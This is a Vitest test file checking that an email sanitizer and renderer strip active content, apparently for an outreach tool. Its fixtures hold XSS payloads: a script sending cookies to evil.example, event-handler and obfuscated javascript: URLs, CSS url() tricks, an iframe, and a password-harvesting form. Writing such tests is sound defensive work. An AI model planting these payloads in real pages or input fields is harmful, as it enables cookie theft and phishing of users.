import { describe, expect, it } from 'vitest';
import { renderEmailStep } from '../../../../lambdas/core/rendering/render-email';
import { sanitizeEmailHtml } from '../../../../lambdas/core/rendering/sanitize';
import { assistant, custom, emailMessage, fullLead, org } from './fixtures';

const HOSTILE = [
  '<p onclick="steal()">Hello <b>{{lead.firstName}}</b></p>',
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt&colon;alert(2)">again</a>',
  '<a href=" java\tscript:alert(3)">tabs</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{background:url(javascript:alert(4))}</style>',
  '<div style="background-image:url(javascript:alert(5))">styled</div>',
  '<form action="https://evil.example"><input name="password"></form>',
].join('');

describe('sanitizeEmailHtml', () => {
  it('removes scripts, event handlers, javascript: URLs and active content', () => {
    // Act
    const clean = sanitizeEmailHtml(HOSTILE);

    // Assess
    expect(clean).not.toMatch(/<script|<iframe|<style|<form|<input/i);
    expect(clean).not.toMatch(/\son\w+=/i);
    expect(clean).not.toMatch(/javascript|url\(/i);
    expect(clean).toMatchInlineSnapshot(
      `"<p>Hello <b>{{lead.firstName}}</b></p><img src="x" /><a>click</a><a>again</a><a>tabs</a><div>styled</div>"`,
    );
  });

  it('keeps the formatting e-mails use', () => {
    // Prepare
    const html =
      '<p style="color:#333333;text-align:center">Hi <strong>there</strong>, <em>see</em> ' +
      '<a href="https://contoso.example/pricing" target="_blank">pricing</a> or ' +
      '<a href="mailto:maya@contoso.example">write</a>.</p>' +
      '<ul><li>one</li></ul><table><tr><td colspan="2">cell</td></tr></table>' +
      '<img src="https://contoso.example/logo.png" alt="Contoso" width="120">';

    // Act
    const clean = sanitizeEmailHtml(html);

    // Assess
    expect(clean).toBe(
      '<p style="color:#333333;text-align:center">Hi <strong>there</strong>, <em>see</em> ' +
        '<a href="https://contoso.example/pricing" target="_blank">pricing</a> or ' +
        '<a href="mailto:maya@contoso.example">write</a>.</p>' +
        '<ul><li>one</li></ul><table><tr><td colspan="2">cell</td></tr></table>' +
        '<img src="https://contoso.example/logo.png" alt="Contoso" width="120" />',
    );
  });

  it("keeps only the body text of a whole HTML document, as a CC'd e-mail arrives", () => {
    // Prepare
    const document =
      '<html><head><title>Pricing</title><style>p{color:red}</style></head>' +
      '<body><div dir="ltr"><p>Hi Ana, our pricing is attached.</p></div></body></html>';

    // Act / Assess
    expect(sanitizeEmailHtml(document)).toBe('<div dir="ltr"><p>Hi Ana, our pricing is attached.</p></div>');
  });

  it('is stable: sanitizing twice changes nothing', () => {
    // Act
    const once = sanitizeEmailHtml(HOSTILE);

    // Assess
    expect(sanitizeEmailHtml(once)).toBe(once);
  });
});

describe('rendering a hostile custom message', () => {
  it('comes out clean, signature included', () => {
    // Prepare
    const message = emailMessage('msg-hostile', 'Hello {{lead.firstName}}', HOSTILE);

    // Act
    const email = renderEmailStep({
      lead: fullLead,
      org,
      assistant: {
        ...assistant,
        signatureHtml: '<p>Maya<img src=x onerror="alert(6)"></p><script>x()</script>',
      },
      sequence: { id: 'seq-1', type: 'standard', stepCount: 3 },
      stepIndex: 0,
      step: custom('msg-hostile', 0),
      customMessage: message,
    });

    // Assess
    expect(email.html).not.toMatch(/<script|<iframe|<style|<form|\son\w+=|javascript|url\(/i);
    expect(email.html).toContain('Hello <b>Ana</b>');
    expect(email.subject).toBe('Hello Ana');
  });

  it('cannot be given a javascript: link through a filled-in value', () => {
    // Prepare
    const message = emailMessage('msg-link', 'Your link', '<a href="{{lead.custom.link}}">open</a>');

    // Act
    const email = renderEmailStep({
      lead: { ...fullLead, customFields: { link: 'javascript:alert(1)' } },
      org,
      assistant,
      sequence: { id: 'seq-1', type: 'standard', stepCount: 1 },
      stepIndex: 0,
      step: custom('msg-link', 0),
      customMessage: message,
    });

    // Assess
    expect(email.html).toContain('<a>open</a>');
    expect(email.html).not.toContain('javascript');
  });
});
